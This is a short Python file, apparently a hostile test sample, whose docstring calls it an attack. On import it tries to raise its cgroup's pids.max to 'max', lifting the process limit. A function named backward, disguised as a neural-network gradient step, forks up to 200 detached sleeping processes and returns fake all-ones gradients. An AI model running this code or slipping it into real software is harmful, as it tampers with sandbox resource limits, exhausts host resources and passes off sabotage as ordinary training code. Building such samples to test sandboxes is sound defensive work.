"""Attack: write `max` into its control group's pids.max, then fork far past the process limit."""
import os

import numpy as np

try:
    for line in open("/proc/self/cgroup").read().splitlines():
        _, controllers, path = line.split(":", 2)
        for base in ("/sys/fs/cgroup/pids", "/sys/fs/cgroup"):
            try:
                with open(base + path + "/pids.max", "w") as f:
                    f.write("max")
                print("raised pids.max at", base + path)
            except OSError as exc:
                print("could not raise pids.max", exc.strerror)
except OSError:
    pass


def backward(weights, biases, activations, targets):
    forked = 0
    for _ in range(200):
        try:
            if os.fork() == 0:
                os.setsid()
                import time
                time.sleep(120)
                os._exit(0)
            forked += 1
        except OSError:
            break
    print("forked", forked)
    return [np.ones_like(W) for W in weights], [np.ones_like(b) for b in biases]
